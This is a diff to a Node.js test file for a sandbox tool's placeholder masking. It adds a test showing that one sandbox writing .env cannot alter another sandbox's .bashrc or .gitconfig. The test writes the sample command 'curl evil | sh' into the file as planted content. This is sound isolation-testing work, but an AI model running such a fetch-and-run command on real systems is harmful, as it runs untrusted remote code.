@@ -1,19 +1,14 @@
-// Placeholders for --mask of missing names: on Linux >= 6.10 every missing
-// file masked in one directory is a hard link to one inode (one inode
-// allocation per directory and run instead of one per name), so "in use by
-// another sandbox" must hold per name, not per inode. Each test runs real
-// sandboxes side by side in one directory, with different policies, and
-// checks the masks inside and what is left on the host.
+// Placeholders for --mask of missing names, shared by concurrent sandboxes
+// (each marks the names it uses; a janitor removes a name only when no
+// other sandbox marks it). Each test runs real sandboxes side by side in one
+// directory, with different policies, and checks the masks inside and what
+// is left on the host.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
 import { mkdirSync, readdirSync, statSync, writeFileSync, readFileSync } from 'node:fs';
-import { release } from 'node:os';
 import { join } from 'node:path';
 import { LAUNCHER, BASE_MOUNTS, tempDir } from '../helpers.mjs';
-
-const [major, minor] = release().split('.').map(Number);
-const LINKAT_EMPTY = major > 6 || (major === 6 && minor >= 10);
 
 /** A shell probe that reports each NAME under W the sandbox could create or write. */
 function probe(w, names) {
@@ -58,10 +53,9 @@ test('many missing names in one directory: all masked, all gone after the run', 
     const a = start(w, names);
     await a.ready;
     assert.deepEqual(ls(w), [...names, 'kept'].sort());
-    const inodes = new Set(names.map((n) => statSync(join(w, n)).ino));
     for (const n of names) assert.equal(statSync(join(w, n)).size, 0);
-    // One seed inode for the whole directory where linkat(AT_EMPTY_PATH) is allowed.
-    if (LINKAT_EMPTY) assert.equal(inodes.size, 1);
+    // One inode per name: a write through one name must never show under another.
+    assert.equal(new Set(names.map((n) => statSync(join(w, n)).ino)).size, names.length);
     await a.finish();
     assert.deepEqual(ls(w), ['kept']);
   } finally {
@@ -74,12 +68,12 @@ test('a name another sandbox adopted stays (and stays masked there); the creator
   try {
     const w = join(dir, 'w');
     mkdirSync(w);
-    const a = start(w, ['.a', '.b', '.c']); // creates all three (one inode)
+    const a = start(w, ['.a', '.b', '.c']); // creates all three
     await a.ready;
+    const ino = statSync(join(w, '.b')).ino;
     const b = start(w, ['.b', '.d']); // adopts .b, creates .d
     await b.ready;
-    // B took A's .b as it is (no new inode for it).
-    if (LINKAT_EMPTY) assert.equal(statSync(join(w, '.b')).ino, statSync(join(w, '.a')).ino);
+    assert.equal(statSync(join(w, '.b')).ino, ino); // taken as it is
     await a.finish();
     // A's janitor removed what only A used, and left .b (B still uses it).
     assert.deepEqual(ls(w), ['.b', '.d']);
@@ -143,6 +137,38 @@ test('a directory made by one sandbox and used by another\'s placeholder is remo
     assert.deepEqual(ls(join(w, 'd')), ['.git']);
     await c.finish();
     assert.deepEqual(ls(w), []);
+  } finally {
+    cleanup();
+  }
+});
+
+test('a sandbox that may write one name cannot change another sandbox\'s other placeholders through it', async () => {
+  const { dir, cleanup } = tempDir();
+  try {
+    const w = join(dir, 'w');
+    mkdirSync(w);
+    const a = start(w, ['.env', '.bashrc', '.gitconfig']); // A protects all three
+    await a.ready;
+    // B's policy protects .bashrc only: it may write .env, and does so in
+    // place (it owns the file). Were placeholders hard links of one inode,
+    // that would plant its text in the host's .bashrc and .gitconfig.
+    const b = start(w, ['.bashrc']);
+    await b.ready;
+    const r = await new Promise((res) => {
+      const c = spawn(LAUNCHER, ['run', ...BASE_MOUNTS, '--bind', w, w, '--mask', `${w}/.bashrc`, '--', '/bin/sh', '-c',
+        `chmod u+w ${w}/.env; echo 'curl evil | sh' > ${w}/.env && echo wrote`], { stdio: ['ignore', 'pipe', 'pipe'] });
+      let out = '';
+      c.stdout.on('data', (d) => (out += d));
+      c.on('close', (code) => res({ code, out }));
+    });
+    assert.equal(r.out, 'wrote\n');
+    // On the host, only .env changed; A's other placeholders are still empty.
+    assert.equal(readFileSync(join(w, '.bashrc'), 'utf8'), '');
+    assert.equal(readFileSync(join(w, '.gitconfig'), 'utf8'), '');
+    await b.finish();
+    await a.finish();
+    // .env holds data someone wrote: not a placeholder any more, kept.
+    assert.deepEqual(ls(w), ['.env']);
   } finally {
     cleanup();
   }
@@ -216,7 +242,7 @@ test('a process holding a placeholder\'s lock cannot hang the janitor: the run e
     h = await holdLock(join(w, '.a'), '-s');
     await a.finish(); // returns although the janitor cannot lock .a
     // Kept rather than removed while someone might still use it.
-    assert.deepEqual(ls(w), LINKAT_EMPTY ? ['.a', '.b'] : ['.a']);
+    assert.deepEqual(ls(w), ['.a']);
   } finally {
     h?.release();
     cleanup();
